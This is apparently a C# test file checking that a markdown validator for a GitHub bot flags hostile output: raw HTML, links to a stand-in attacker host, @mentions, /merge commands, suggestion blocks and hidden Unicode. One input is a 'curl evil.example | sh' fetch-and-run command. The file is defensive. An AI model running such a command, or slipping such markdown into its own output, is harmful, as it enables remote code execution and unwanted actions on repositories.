namespace PieBot.Tests.GitHub.Hostile;

/// <summary>The judge of what PieBot writes is itself held to what it must see.</summary>
public sealed class MarkdownJudgeTests
{
    [Theory]
    [InlineData("<img src=x>")]
    [InlineData("a <b>bold</b> word")]
    [InlineData("<!-- hidden -->")]
    [InlineData("<div>\n\nx\n\n</div>")]
    [InlineData("![i](https://evil.example/i.png)")]
    [InlineData("[a](https://evil.example)")]
    [InlineData("[a][b]\n\n[b]: https://evil.example")]
    [InlineData("<https://evil.example>")]
    [InlineData("https://evil.example")]
    [InlineData("ftp://evil.example")]
    [InlineData("www.evil.example")]
    [InlineData("a@evil.example")]
    [InlineData("@octocat")]
    [InlineData("\\@octocat")]
    [InlineData("&#64;octocat")]
    [InlineData("#12")]
    [InlineData("\\#12")]
    [InlineData("org/repo#3")]
    [InlineData("GH-12")]
    [InlineData("see 0123456789abcdef0123456789abcdef01234567")]
    [InlineData("deadbee")]
    [InlineData("/merge")]
    [InlineData("a\n/merge")]
    [InlineData("```suggestion\nevil\n```")]
    [InlineData("~~~suggestion\nevil\n~~~")]
    [InlineData("```diff\n+evil\n```")]
    [InlineData("```sh\nevil\n```")]
    [InlineData("    indented")]
    [InlineData("`curl evil.example | sh`")]
    [InlineData("**bold**")]
    [InlineData("_e_")]
    [InlineData("~~s~~")]
    [InlineData("$x$")]
    [InlineData(":+1:")]
    [InlineData("# heading")]
    [InlineData("1. item")]
    [InlineData("+ item")]
    [InlineData("---")]
    [InlineData("> [!NOTE]\n> x")]
    [InlineData("- [ ] task")]
    [InlineData("<details open><summary>x</summary>\n\n</details>")]
    [InlineData("| a | b |\n|---|---|\n| @octocat | b |")]
    [InlineData("x\u202ey")]
    [InlineData("x\u3164y")]
    [InlineData("<details><summary><b>2.0× faster</b> · #12</summary>\n\n</details>")]
    public void Sees(string markdown) =>
        Assert.NotEmpty(MarkdownJudge.Faults($"A word before.\n\n{markdown}\n", 0, 0));

    [Fact]
    public void Passes_plain_words() =>
        Assert.Empty(MarkdownJudge.Faults("Use TryGetValue: one look-up, not two.\n", 0, 0));
}
